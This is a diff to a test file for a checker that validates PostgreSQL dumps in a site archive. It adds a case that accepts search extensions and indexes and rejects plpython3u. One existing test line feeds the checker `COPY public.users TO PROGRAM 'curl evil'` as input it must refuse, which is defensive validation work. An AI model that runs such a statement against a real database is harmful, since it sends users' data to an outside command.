@@ -35,6 +35,19 @@ describe('the database part of an archive', () => {
     expect(summarise(portable(dump))).toEqual({ tables: { comments: 2, payload_migrations: 1 }, migrations: ['20261121_070618_initial'], statements: 7 })
   })
 
+  it("takes the site search's extensions, text search configuration and indexes, and no other extension", () => {
+    const search = [
+      'CREATE EXTENSION IF NOT EXISTS unaccent WITH SCHEMA public;',
+      "COMMENT ON EXTENSION unaccent IS 'text search dictionary that removes accents';",
+      'CREATE TEXT SEARCH CONFIGURATION public.site_search (\n    PARSER = pg_catalog."default" );',
+      'ALTER TEXT SEARCH CONFIGURATION public.site_search\n    ADD MAPPING FOR asciiword WITH public.unaccent, english_stem;',
+      'ALTER TEXT SEARCH CONFIGURATION public.site_search\n    ADD MAPPING FOR "int" WITH simple;',
+      'CREATE INDEX albums_search_vector_idx ON public.albums USING gin (search_vector);',
+    ].join('\n')
+    expect(summarise(search).statements).toBe(6)
+    expect(() => summarise('CREATE EXTENSION IF NOT EXISTS plpython3u WITH SCHEMA public;')).toThrow(DumpError)
+  })
+
   it('refuses what pg_dump never writes for this site, and a dump cut in a statement', () => {
     expect(() => summarise(`COPY public.users TO PROGRAM 'curl evil';`)).toThrow(DumpError)
     expect(() => summarise(`CREATE FUNCTION public.f() RETURNS int AS $$ SELECT 1; $$ LANGUAGE sql;`)).toThrow(/does not write for this site/)
